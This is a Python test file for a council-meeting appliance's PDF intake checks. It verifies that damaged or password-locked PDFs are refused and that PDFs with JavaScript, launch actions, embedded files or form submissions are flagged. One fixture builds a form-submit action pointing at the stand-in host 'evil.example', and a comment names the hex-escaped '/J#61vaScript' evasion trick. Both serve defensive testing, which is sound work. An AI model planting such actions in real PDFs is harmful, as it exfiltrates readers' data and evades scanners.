"""PDF checks where documents enter (issue 11): a PDF a reader cannot open is refused with a message and leaves
nothing behind; one with JavaScript, launch actions or embedded files is kept and marked for the clerk. The PDFs
are written by tests/pdf_samples.py; uploads go through the real clerk form and `sitzungsbox import`."""

from __future__ import annotations

import html
import io
import time

import pytest

from appliance.documents import DocumentError, pdfcheck, service
from appliance.sessions import roster
from appliance.sessions import service as sessions
from tests import pdf_samples
from tests.conftest import logged_in_clerk

BROKEN = "Die PDF-Datei ist beschädigt oder unvollständig und lässt sich nicht öffnen"


@pytest.mark.parametrize(("data", "ok", "problem", "active"), [
    (pdf_samples.text("Einladung"), True, None, ()),
    (pdf_samples.sized(100_000), True, None, ()),
    (pdf_samples.truncated(), False, "abgeschnitten", ()),
    (pdf_samples.pdf(b"x")[:-200] + b"%%EOF\n", False, BROKEN, ()),  # the end is there, the xref is not
    (b"%PDF-1.4\n" + b"x" * 3000 + b"\n%%EOF\n", False, BROKEN, ()),  # only the magic bytes
    (pdf_samples.NO_PAGES, False, "keine Seiten", ()),
    (pdf_samples.encrypted(), False, "Passwort", ()),
    (pdf_samples.encrypted(""), True, None, ()),  # an owner password only: every reader opens it
    (pdf_samples.JS_OPEN, True, None, ("javascript",)),
    (pdf_samples.JS_ESCAPED, True, None, ("javascript",)),  # /S /J#61vaScript in a page's /AA
    (pdf_samples.LAUNCH, True, None, ("launch",)),
    (pdf_samples.EMBEDDED, True, None, ("embedded",)),
    (pdf_samples.pdf(b"x", catalog=b"/AcroForm << /Fields [5 0 R] >>", extra=[
        b"<< /FT /Btn /T (senden) /A << /S /SubmitForm /F (http://evil.example/) >> >>"]), True, None, ("submitform",)),
])
def test_check_table(data, ok, problem, active):
    result = pdfcheck.check(data)
    assert result.ok is ok and result.active_content == active
    if problem:
        assert problem in (result.problem or "")
    else:
        assert result.problem is None


def test_mangled_pdfs_never_raise_and_never_hang():
    """Cut, flipped bytes, deep nesting, dangling references: always an answer, quickly (in-process here; the
    child adds the hard limits)."""
    import random

    rnd = random.Random(11)
    bases = [pdf_samples.JS_OPEN, pdf_samples.EMBEDDED, pdf_samples.encrypted(""), pdf_samples.pages(5, 20_000, 3)]
    for _ in range(300):
        b = bytearray(rnd.choice(bases))
        if rnd.random() < 0.3:
            b = b[:rnd.randrange(len(b))] + b"%%EOF"
        elif rnd.random() < 0.5:
            i = rnd.randrange(len(b))
            b[i:i] = rnd.choice([b"[" * 20_000, b"<<" * 5_000, b"/S /JavaScript", b"9999999999 0 R"])
        else:
            for _ in range(rnd.randint(1, 10)):
                b[rnd.randrange(len(b))] = rnd.randrange(256)
        t0 = time.monotonic()
        result = pdfcheck.check(bytes(b))
        assert time.monotonic() - t0 < 2
        assert result.ok or result.problem


def test_a_broken_xref_that_readers_repair_is_accepted():
    data = pdf_samples.text("Vorlage")
    start = data.rindex(b"startxref\n") + len(b"startxref\n")
    wrong = data[:start] + b"12" + data[data.index(b"\n", start):]  # points into the header
    assert pdfcheck.check(wrong).ok


def test_the_child_process_checks_a_batch_in_order(tmp_path):
    paths = []
    for name, data in (("a", pdf_samples.text("a")), ("b", pdf_samples.truncated()), ("c", pdf_samples.LAUNCH)):
        paths.append(tmp_path / f"{name}.pdf")
        paths[-1].write_bytes(data)
    a, b, c = pdfcheck.check_files(paths)
    assert a == pdfcheck.PdfCheck(True) and not b.ok and "abgeschnitten" in b.problem
    assert c.active_content == ("launch",)
    assert pdfcheck.check_files([]) == []


def test_a_check_that_takes_too_long_or_too_much_memory_is_flagged_not_passed(tmp_path):
    p = tmp_path / "gross.pdf"
    p.write_bytes(pdf_samples.pages(200, 2 << 20))
    (result,) = pdfcheck.check_files([p], file_seconds=0.000_001)
    assert result.ok and result.active_content == (pdfcheck.UNCHECKED,)
    (result,) = pdfcheck.check_files([p], memory=8 << 20)  # the child runs out of memory (or cannot even start)
    assert result.ok and result.active_content == (pdfcheck.UNCHECKED,)


def test_a_big_pdf_is_checked_quickly(tmp_path):
    """20 MB, 500 pages, 5,000 link annotations: the number in pdfcheck's module text."""
    p = tmp_path / "haushalt.pdf"
    p.write_bytes(pdf_samples.pages(500, 20 << 20))
    t0 = time.monotonic()
    (result,) = pdfcheck.check_files([p])
    took = time.monotonic() - t0
    print(f"20 MB / 500 pages: {took:.2f} s with the child's start")
    assert result == pdfcheck.PdfCheck(True)
    assert took < 5  # ~0.25 s on the development machine; generous for a loaded CI box


# --- where files enter ------------------------------------------------------------------------


@pytest.fixture
def session(db):
    s = sessions.create_session(db, body="Rat der Stadt", title="Sitzung", day="2026-12-01", ssid="Sitzung")
    sessions.insert_members(db, s.id, roster.parse_members("Name;Rolle\nAnna Schmidt;Mitglied\n"))
    sessions.set_active(db, s.id)
    return s


@pytest.fixture
def clerk(cfg, db, session):
    return logged_in_clerk(cfg, db, f"/clerk/sessions/{session.id}/unterlagen")


def stored(db, cfg, sid):
    return [(f.name, f.sha256) for f in service.files(db, sid)], sorted(service.blobs_for(cfg.state_dir).all())


def upload(c, tok, sid, files: list[tuple[bytes, str]], **form):
    return c.post(f"/clerk/sessions/{sid}/unterlagen/hochladen",
                  data={"csrf_token": tok, "late": "0", "files": [(io.BytesIO(d), n) for d, n in files], **form},
                  content_type="multipart/form-data")


@pytest.mark.parametrize("late", [False, True])
def test_upload_refuses_a_truncated_pdf_and_stores_nothing(clerk, db, cfg, session, late):
    c, tok = clerk
    before = stored(db, cfg, session.id)
    form = {"late": "1"} if late else {}
    r = upload(c, tok, session.id, [(pdf_samples.text("gut"), "gut.pdf"), (pdf_samples.truncated(), "kaputt.pdf")],
               **form)
    page = html.unescape(r.get_data(as_text=True))
    assert r.status_code == 422
    assert f"kaputt.pdf: {BROKEN} (das Dateiende „%%EOF“ fehlt – die Datei ist abgeschnitten)." in page
    assert stored(db, cfg, session.id) == before  # all or nothing: not even gut.pdf, no blob left
    assert list((cfg.state_dir / "documents" / "tmp").iterdir()) == []
    r = upload(c, tok, session.id, [(pdf_samples.encrypted(), "geheim.pdf")], **form)
    assert r.status_code == 422 and "Passwort" in html.unescape(r.get_data(as_text=True))
    assert stored(db, cfg, session.id) == before


def test_upload_keeps_and_marks_active_content(clerk, db, cfg, session, app_member):
    c, tok = clerk
    r = upload(c, tok, session.id, [(pdf_samples.JS_OPEN, "formular.pdf"), (pdf_samples.LAUNCH, "start.pdf"),
                                    (pdf_samples.text("sauber"), "sauber.pdf")])
    assert r.status_code == 302
    files = {f.name: f for f in service.files(db, session.id)}
    assert files["formular.pdf"].pdf_active == ("javascript",)
    assert files["start.pdf"].pdf_active == ("launch",)
    assert files["sauber.pdf"].pdf_active == ()
    page = html.unescape(c.get(f"/clerk/sessions/{session.id}/unterlagen").get_data(as_text=True))
    assert "Achtung: formular.pdf enthält aktive Inhalte (JavaScript)" in page  # the flash after the upload
    assert "Achtung: start.pdf enthält aktive Inhalte (Programmstart (Launch))" in page
    assert f'id="pdf-flag-{files["formular.pdf"].id}"' in page and "Aktive Inhalte: JavaScript" in page
    assert f'id="pdf-flag-{files["sauber.pdf"].id}"' not in page
    again = html.unescape(c.get(f"/clerk/sessions/{session.id}/unterlagen").get_data(as_text=True))
    assert "Aktive Inhalte: JavaScript" in again and "Achtung: formular.pdf" not in again  # the mark stays
    assert "documents.file" in [r[0] for r in db.execute("SELECT action FROM audit WHERE detail LIKE '%pdf_active"
                                                          "=javascript%'")]
    # Members see a small notice beside the file.
    agenda = html.unescape(app_member(session).get("/unterlagen").get_data(as_text=True))
    assert agenda.count("Enthält aktive Inhalte") == 2


@pytest.fixture
def app_member(cfg, db):
    from flask import g

    from appliance.helper.client import NullHelper
    from appliance.rules.viewer import Viewer
    from appliance.web.app import create_app

    def use(session):
        app = create_app(cfg, helper=NullHelper(), testing=True)
        anna = sessions.members(db, session.id)[0]

        def _as_anna():
            g.viewer = Viewer("member", session.id, anna, True, "10.77.0.20", "02:00:00:00:00:01")
        app.before_request_funcs.setdefault(None, []).append(_as_anna)
        return app.test_client()
    return use


def test_cli_import_refuses_a_truncated_pdf_and_marks_javascript(cfg, db, session, tmp_path, capsys):
    from appliance import cli
    from appliance.config import to_toml

    conf = tmp_path / "sb.toml"
    conf.write_text(to_toml(cfg))
    usb = tmp_path / "usb"
    (usb / "TOP 1 Haushalt").mkdir(parents=True)
    (usb / "TOP 1 Haushalt" / "Vorlage.pdf").write_bytes(pdf_samples.text("Vorlage"))
    (usb / "TOP 1 Haushalt" / "Anlage.pdf").write_bytes(pdf_samples.truncated())
    assert cli.main(["--config", str(conf), "import", str(session.id), str(usb)]) == 2
    err = capsys.readouterr().err
    assert "nichts wurde importiert" in err and f"TOP 1 Haushalt/Anlage.pdf: {BROKEN}" in err
    assert stored(db, cfg, session.id) == ([], []) and service.items(db, session.id) == []
    (usb / "TOP 1 Haushalt" / "Anlage.pdf").write_bytes(pdf_samples.JS_OPEN)
    assert cli.main(["--config", str(conf), "import", str(session.id), str(usb)]) == 0
    out = capsys.readouterr().out
    assert "Achtung, aktive Inhalte (JavaScript) – gespeichert und markiert: TOP 1 Haushalt/Anlage.pdf" in out
    assert {f.name: f.pdf_active for f in service.files(db, session.id)} == {
        "Vorlage.pdf": (), "Anlage.pdf": ("javascript",)}
    tv = tmp_path / "Tischvorlage.pdf"
    tv.write_bytes(pdf_samples.truncated())
    assert cli.main(["--config", str(conf), "import", str(session.id), str(tv), "--tischvorlage"]) == 2
    assert "abgeschnitten" in capsys.readouterr().err and len(service.files(db, session.id)) == 2


def test_every_pdf_row_is_checked_also_without_the_bulk_path(cfg, db, session):
    """OParl and other single-file writers go through service.add_file: it checks what nobody checked."""
    blobs = service.blobs_for(cfg.state_dir)
    bad = blobs.put_bytes(pdf_samples.truncated())
    with pytest.raises(DocumentError, match="abgeschnitten"):
        service.add_file(db, session.id, name="a.pdf", stored=bad, mime="application/pdf")
    assert service.files(db, session.id) == [] and not blobs.has(bad.sha256)
    js = blobs.put_bytes(pdf_samples.JS_OPEN)
    fid = service.add_file(db, session.id, name="b.pdf", stored=js, mime="application/pdf", external_id="x:1")
    assert service.get_file(db, fid).pdf_active == ("javascript",)
